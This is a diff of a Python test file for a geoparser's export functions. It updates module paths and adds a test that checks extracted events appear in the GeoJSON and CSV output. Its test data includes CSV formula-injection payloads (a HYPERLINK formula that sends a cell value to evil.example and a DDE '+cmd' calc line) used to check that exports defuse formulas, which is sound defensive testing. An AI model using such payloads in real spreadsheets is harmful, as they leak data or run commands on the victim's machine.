@@ -1,4 +1,4 @@
-"""Tests for geo.export: GeoJSON, JSON, CSV and the text table, including hostile article text."""
+"""Tests for geo.map.export: GeoJSON, JSON, CSV and the text table, including hostile article text."""
 
 from __future__ import annotations
 
@@ -9,13 +9,13 @@ from pathlib import Path
 
 import pytest
 
-from geo.articles import Article, article_from_text, split_passages
-from geo.export import CSV_COLUMNS, places_csv, places_geojson, places_json, places_table
+from geo.engine.pipeline import Geoparser
+from geo.engine.recognize import Mention
+from geo.engine.resolve import Resolver
+from geo.files.articles import Article, article_from_text, split_passages
 from geo.gazetteer import PlaceIndex
-from geo.pipeline import Geoparser
-from geo.places import Place, group_places, places_for
-from geo.recognize import Mention
-from geo.resolve import Resolver
+from geo.map.export import CSV_COLUMNS, places_csv, places_geojson, places_json, places_table
+from geo.map.places import Place, group_places, places_for
 
 HOSTILE_TEXT = (
     '=HYPERLINK("http://evil.example/?q="&A1,"Breaking news")\n'
@@ -217,7 +217,7 @@ def test_table_has_a_precision_column(approx_places: list[Place], with_unresolve
 def test_exports_carry_a_window_of_a_long_passage() -> None:
     from longtext import long_article, long_places
 
-    from geo.excerpts import CONTEXT, CUT
+    from geo.map.excerpts import CONTEXT, CUT
 
     article = long_article(100)
     places = long_places(article)
@@ -252,7 +252,7 @@ def test_a_short_passage_is_exported_whole(seed_places: list[Place]) -> None:
 
 
 def test_table_rows_as_csv_defuse_formulas_and_keep_the_text() -> None:
-    from geo.export import rows_csv
+    from geo.map.export import rows_csv
 
     rows = [{"status": "changed", "A": '=HYPERLINK("http://evil.example","x")', "B": "+cmd|' /C calc'!A0",
              "places": "-Kyiv", "similarity": -0.5}, {"status": "same", "A": "plain", "B": "@SUM(1)",
@@ -266,7 +266,7 @@ def test_table_rows_as_csv_defuse_formulas_and_keep_the_text() -> None:
 
 
 def test_exports_name_the_article_file_not_the_folder_it_was_read_from(parser: Geoparser) -> None:
-    from geo.articles import read_article
+    from geo.files.articles import read_article
 
     seed = read_article(Path(__file__).resolve().parents[1] / "seeds" / "itv-azovstal-version-a.txt")
     assert Path(seed.source).is_absolute() or "/" in seed.source          # as the dashboard reads its samples
@@ -276,3 +276,21 @@ def test_exports_name_the_article_file_not_the_folder_it_was_read_from(parser: G
         assert str(Path(seed.source).parent) not in text and "seeds/" not in text
     record = json.loads(places_geojson(places))["features"][0]["properties"]
     assert {p["source"] for p in record["passages"]} == {"itv-azovstal-version-a.txt"}
+
+
+def test_exports_carry_the_events_at_each_place(fast_parser: Geoparser) -> None:
+    text = ("Kharkiv, 10 March 2022\n\nRussian forces shelled Kharkiv on Tuesday.\n\n"
+            "Police arrested two men in Odesa. Officials met in Odesa.")
+    places = {p.name: p for p in places_for([article_from_text(text, "story.txt")], fast_parser)}
+    assert [e.sub_event_type for e in places["Kharkiv"].events] == ["Shelling/artillery/missile attack"]
+    (shelling,) = [f for f in json.loads(places_geojson(list(places.values())))["features"]
+                   if f["properties"]["name"] == "Kharkiv"]
+    (event,) = shelling["properties"]["events"]
+    assert event["event_type"] == "Explosions/Remote violence"
+    assert (event["date"], event["date_source"], event["trigger"]) == ("2022-03-08", "relative", "shelled")
+    assert text[event["article_start"]:event["article_end"]] == "shelled"
+    assert text[event["mention_start"]:event["mention_end"]] == "Kharkiv" and event["actors"] == ["Russian forces"]
+    rows = [r for r in csv.DictReader(io.StringIO(places_csv([places["Odesa"]])))]
+    assert [(r["sub_event_type"], r["event_date"], r["date_source"], r["actors"]) for r in rows] == [
+        ("Arrests", "2022-03-10", "article", "Police"), ("", "", "", "")]     # the meeting is no event
+    assert places_for([article_from_text(text, "story.txt")], fast_parser, events=False)[0].events == ()
